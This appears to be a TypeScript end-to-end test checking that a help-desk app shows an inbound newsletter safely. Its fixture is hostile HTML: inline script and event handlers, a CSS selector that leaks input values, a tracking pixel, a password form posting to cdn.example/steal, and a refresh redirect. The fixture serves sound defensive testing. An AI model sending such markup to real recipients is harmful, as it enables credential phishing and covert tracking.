// A mail that looks like a newsletter and behaves like an attack, read by an agent.
import { deflateSync, crc32 } from "node:zlib";
import { expect } from "vitest";
import { expectFitApp } from "./fitness.ts";
import { STAFF, type World } from "./world.ts";

const HTML = `<html><head>
<style>@import url(https://cdn.example/x.css); body{margin:0;background:#f4efe6 url(https://cdn.example/bg.png)}
input[value^=a]{background:url(https://cdn.example/leak?a)}</style>
<link rel="stylesheet" href="https://cdn.example/x.css"><link rel="prefetch" href="https://cdn.example/next">
<meta http-equiv="refresh" content="0;url=https://cdn.example/away"></head>
<body onload="parent.document.title='taken'"><table width="600" align="center"><tr><td>
<img src="cid:logo@bok.example" width="200" height="80" alt="Bokhandeln">
<h1>Höstens böcker</h1><p dir="rtl">שלום</p>
<img src="https://cdn.example/hero.png" width="552" height="184" alt="Böcker på ett bord">
<img src="https://cdn.example/pixel.gif?agent" width="1" height="1">
<p><a href="https://bok.example/" onclick="alert(1)">https://bank.example</a>
<a href="javascript:alert(2)">klicka</a> <a href="//bok.example/x" target="_top">vidare</a></p>
<script>parent.document.title="taken";alert(3)</script><img src=x onerror="alert(4)">
<form action="https://cdn.example/steal"><input name="password" autofocus><button>Logga in</button></form>
<iframe src="https://cdn.example/frame"></iframe><svg onload="alert(5)"><script>alert(6)</script></svg>
<div style="position:fixed;inset:0;background:url(https://cdn.example/cover.png)">Täckt</div>
<table border="1"><tr>${"<td>Kolumn</td>".repeat(30)}</tr></table>
<p>${"Donaudampfschifffahrt".repeat(12)}</p></td></tr></table>
<div class="gmail_quote"><div class="gmail_attr">Den tors 19 nov. 2026 kl 10:12 skrev Fjällrum &lt;hej@fjallrum.example&gt;:<br></div>
<blockquote class="gmail_quote"><p>Tack för ert mejl!</p></blockquote></div></body></html>`;

/** It is shown as it was sent, nothing of it runs or is asked for, and its pictures come when the agent wants. */
export async function expectHarmlessMail(world: World): Promise<void> {
  await world.control("/mail/inbound", newsletter(world.shop("fjallrum").email));
  const agent = await world.admin({ staff: STAFF.english });
  const { page, app } = agent;
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await app.getByTestId("ticket-row").filter({ hasText: "Höstens böcker" }).click();
  const mail = app.frameLocator("[data-mail-frame] iframe");
  await mail.getByRole("heading", { name: "Höstens böcker" }).waitFor();

  // What came with it is there; what is elsewhere is not, and nobody was told that it was opened.
  const logo = mail.getByAltText("Bokhandeln");
  const wide = (picture: typeof logo) => picture.evaluate((one) => (one as HTMLImageElement).naturalWidth);
  await expect.poll(() => wide(logo)).toBe(200);
  expect(await mail.getByAltText("Böcker på ett bord").getAttribute("src")).toBeNull();
  expect(
    await mail.locator("form, input, button, iframe, svg, [onclick], [onload], script:not([nonce])").count(),
  ).toBe(0);
  expect(await mail.getByText("vidare").getAttribute("target")).toBe("_blank");
  expect(await mail.getByText("klicka").getAttribute("href")).toBeNull();

  // As high as it is, without scrolling up and down in it.
  const frame = app.locator("[data-mail-frame] iframe");
  const inner = () => mail.locator(".mail").evaluate((box) => box.scrollHeight);
  await expect.poll(async () => (await frame.boundingBox())?.height ?? 0).toBeGreaterThan(400);
  await expect
    .poll(async () => Math.abs(((await frame.boundingBox())?.height ?? 0) - (await inner())))
    .toBeLessThan(20);

  await expectFitApp(agent);
  await page.setViewportSize({ width: 390, height: 900 });
  await app.getByTestId("remote-pictures").getByRole("button").click();
  await expect.poll(() => wide(mail.getByAltText("Böcker på ett bord"))).toBe(600);
  const elsewhere = world.sandbox.state.calls.filter(({ service }) => service === "elsewhere");
  expect(elsewhere.map(({ path }) => path)).toEqual(["/hero.png"]);

  expect(asked.filter((url) => /cdn\.example|bok\.example/.test(new URL(url).host))).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(await page.title()).not.toContain("taken");

  // It can be read as text too, and printed whole.
  await app.getByRole("button", { name: "More ways to read this message" }).click();
  await app.getByRole("menuitem", { name: "Show as text" }).click();
  await app.getByTestId("message").getByText("Höstens böcker").waitFor();
  expect(await frame.count()).toBe(0);
  await app.getByRole("button", { name: "More actions" }).click();
  await app.getByRole("menuitem", { name: "Print conversation" }).click();
  await app.getByTestId("print").waitFor();
  await app.frameLocator("[data-mail-frame] iframe").getByText("Tack för ert mejl!").waitFor();
}

/** The mail with its logo inside, as its sender's program writes it. */
const newsletter = (to: string): string =>
  [
    "From: Bokhandeln <redaktion@bok.example>",
    `To: ${to}`,
    "Subject: =?utf-8?Q?H=C3=B6stens_b=C3=B6cker?=",
    "Message-ID: <host-2026@bok.example>",
    `Date: ${new Date().toUTCString()}`,
    "MIME-Version: 1.0",
    'Content-Type: multipart/related; boundary="part"',
    "",
    "--part",
    "Content-Type: text/html; charset=utf-8",
    "Content-Transfer-Encoding: base64",
    "",
    lines(Buffer.from(HTML)),
    "--part",
    'Content-Type: image/png; name="logo.png"',
    "Content-ID: <logo@bok.example>",
    'Content-Disposition: inline; filename="logo.png"',
    "Content-Transfer-Encoding: base64",
    "",
    lines(redPng(200, 80)),
    "--part--",
    "",
  ].join("\r\n");

const lines = (bytes: Buffer): string => bytes.toString("base64").replace(/.{76}/g, "$&\r\n");

function redPng(width: number, height: number): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2], 8);
  const row = Buffer.from([0, ...Array.from({ length: width }, () => [180, 80, 60]).flat()]);
  const pixels = deflateSync(Buffer.concat(Array.from({ length: height }, () => row)));
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const [size, sum] = [data.length, crc32(body)].map((number) => {
      const four = Buffer.alloc(4);
      four.writeUInt32BE(number);
      return four;
    });
    return Buffer.concat([size ?? Buffer.alloc(4), body, sum ?? Buffer.alloc(4)]);
  };
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    chunk("IHDR", head),
    chunk("IDAT", pixels),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}
